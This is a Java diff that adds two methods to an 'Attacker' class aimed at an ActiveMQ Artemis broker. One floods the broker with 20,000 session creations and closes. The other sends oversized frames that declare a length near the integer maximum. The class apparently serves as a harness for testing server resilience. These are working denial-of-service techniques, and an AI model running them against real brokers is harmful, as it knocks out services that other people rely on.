@@ -2,6 +2,7 @@ package trader.server;
 
 import static org.apache.activemq.artemis.api.core.Message.TEXT_TYPE;
 
+import io.netty.buffer.Unpooled;
 import jakarta.jms.BytesMessage;
 import jakarta.jms.Connection;
 import jakarta.jms.DeliveryMode;
@@ -40,6 +41,7 @@ import org.apache.activemq.artemis.core.protocol.core.impl.ChannelImpl.CHANNEL_I
 import org.apache.activemq.artemis.core.protocol.core.impl.PacketImpl;
 import org.apache.activemq.artemis.core.protocol.core.impl.wireformat.CreateProducerMessage;
 import org.apache.activemq.artemis.core.protocol.core.impl.wireformat.CreateSessionMessage;
+import org.apache.activemq.artemis.core.protocol.core.impl.wireformat.SessionCloseMessage;
 import org.apache.activemq.artemis.core.protocol.core.impl.wireformat.SessionQueueQueryMessage;
 import org.apache.activemq.artemis.core.protocol.core.impl.wireformat.SessionSendContinuationMessage_V3;
 import org.apache.activemq.artemis.core.protocol.core.impl.wireformat.SessionSendLargeMessage;
@@ -298,6 +300,33 @@ final class Attacker implements AutoCloseable {
                     100_000, false, true, true, false, -1, null);
             packet.setChannelID(CHANNEL_ID.SESSION.id);
             remote.getTransportConnection().write(packet.encode(remote));
+        });
+    }
+
+    void closedSessions() throws Exception {
+        CoreRemotingConnection remote = channel(core()).getConnection();
+        repeat(20_000, i -> {
+            Packet create = new CreateSessionMessage("session " + i, 10_000 + i, remote.getChannelVersion(), null,
+                    null, 100_000, false, true, true, false, -1, null);
+            create.setChannelID(CHANNEL_ID.SESSION.id);
+            remote.getTransportConnection().write(create.encode(remote));
+            Packet close = new SessionCloseMessage();
+            close.setChannelID(10_000 + i);
+            remote.getTransportConnection().write(close.encode(remote));
+        });
+    }
+
+    /** Each of a connection of its own, which the server closes. */
+    void largeFrames(int number, int mebibytes) throws Exception {
+        repeat(number, i -> {
+            reconnect();
+            io.netty.channel.Channel socket =
+                    ((NettyConnection) channel(core()).getConnection().getTransportConnection()).getNettyChannel();
+            socket.writeAndFlush(Unpooled.buffer(Integer.BYTES).writeInt(Integer.MAX_VALUE - 16)).sync();
+            for (int sent = 0; sent < mebibytes && socket.isActive() && !ended; sent++) {
+                socket.writeAndFlush(Unpooled.buffer(1 << 20).writeByte(PacketImpl.SESS_SEND).writeZero((1 << 20) - 1))
+                        .await();
+            }
         });
     }
 
